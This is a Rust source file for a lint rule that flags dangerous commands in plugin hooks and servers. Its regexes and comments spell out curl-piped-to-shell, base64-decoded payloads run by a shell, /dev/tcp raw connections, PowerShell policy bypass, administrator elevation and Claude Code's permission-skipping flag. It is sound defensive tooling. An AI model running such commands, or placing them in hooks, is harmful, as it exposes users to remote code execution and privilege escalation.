use std::sync::LazyLock;

use regex::Regex;

use crate::rules::prelude::*;

pub(super) static RULE: Rule = Rule {
    name: "dangerous-command",
    level: Level::Warning,
    security: Some("8.8"),
    witness: Witness { by: By::House, client: MEASURED },
    page: include_str!("dangerous_command.md"),
    file: file!(),
    check,
    ..Rule::DEFAULT
};

fn check(repo: &Repo, findings: &mut Findings) {
    for hook in repo.hooks() {
        for text in hook.command().into_iter().chain(hook.args().unwrap_or_default().iter().filter_map(Node::text)) {
            report(findings, text, "this hook");
        }
    }
    for server in repo.servers() {
        for text in server.command().into_iter().chain(server.args()) {
            report(findings, text, "this server");
        }
    }
}

/// Words of which every pattern needs one, in lower case: a command without them costs no pattern.
const NEEDED: &[&str] = &["curl", "wget", "iwr", "irm", "invoke-", "base64", "/dev/", "bypass", "runas", "--dangerously-skip-permissions"];

fn report(findings: &mut Findings, text: &Text, who: &str) {
    let lower = text.to_lowercase();
    if !NEEDED.iter().any(|it| lower.contains(it)) {
        return;
    }
    let command = without_prose(text);
    for (pattern, what) in PATTERNS.iter() {
        if let Some(found) = pattern.find(&command).filter(|it| !runs_own_script(&command, it.as_str())) {
            findings
                .report(text.slice(found.range()), format!("{who} {what}"))
                .help("bring what it needs with the plugin, and run it from `${CLAUDE_PLUGIN_ROOT}`");
            return;
        }
    }
}

/// Whether PowerShell is only let run a script of the plugin, which Windows forbids it otherwise.
fn runs_own_script(command: &str, found: &str) -> bool {
    found.to_lowercase().ends_with("bypass") && (command.contains("${CLAUDE_PLUGIN_ROOT}") || command.contains("$env:CLAUDE_PLUGIN_ROOT"))
}

/// What no hook and no server has good reason to do, with what to say of it.
static PATTERNS: LazyLock<Vec<(Regex, &str)>> = LazyLock::new(|| {
    let shell = r"(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:env\s+)?(?:ba|z|da|k)?sh\b";
    let interpreter = r"(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|iex)\b";
    let fetch = r"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b";
    let compile = |it: String| Regex::new(&it).expect("the pattern is well formed");
    vec![
        // `curl -fsSL https://example.com/x | sh`
        (compile(format!(r"(?i){fetch}[^|;&\n]*\|\s*{interpreter}")), "runs whatever a server on the network sends at that moment"),
        // `bash <(curl https://example.com/x)`, `eval "$(curl https://example.com/x)"`
        (
            compile(format!(r#"(?i)(?:{shell}\s+<\(|\beval\s+["']?\$\()\s*{fetch}"#)),
            "runs whatever a server on the network sends at that moment",
        ),
        // `echo aGk= | base64 -d | sh`
        (compile(format!(r"(?i)\bbase64\s+(?:-d|-D|--decode)\b[^|;&\n]*\|\s*{interpreter}")), "runs a program that is hidden in base64"),
        // `exec 3<>/dev/tcp/10.0.0.1/4444`
        (compile(r"/dev/(?:tcp|udp)/[\w.-]+/\d+".into()), "opens a raw connection to the network"),
        // `powershell -ExecutionPolicy Bypass`
        (compile(r"(?i)-(?:ExecutionPolicy|ep)\s+Bypass\b".into()), "switches PowerShell's own protection off"),
        // `Start-Process powershell -Verb RunAs`
        (compile(r"(?i)-Verb\s+RunAs\b".into()), "asks for the rights of an administrator"),
        // `claude --dangerously-skip-permissions -p …`
        (compile(r"--dangerously-skip-permissions\b".into()), "starts Claude Code with every question switched off"),
    ]
});

/// Matches `echo "…"` and `printf '…'`: what is only printed is not run.
static PRINTED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\b(?:echo|printf)\s+(?:-\S+\s+)*("(?:[^"\\]|\\.)*"|'[^']*')"#).expect("the pattern is well formed"));

/// The command with what it only prints blanked out, byte for byte.
pub(in crate::rules) fn without_prose(command: &str) -> String {
    let mut out = command.to_owned();
    for it in PRINTED.captures_iter(command) {
        let Some(quoted) = it.get(1) else { continue };
        // Printed into a shell, it is run after all.
        let runs = command.get(quoted.end()..).is_some_and(|it| it.trim_start().starts_with('|'));
        if !runs {
            out.replace_range(quoted.range(), &" ".repeat(quoted.len()));
        }
    }
    out
}
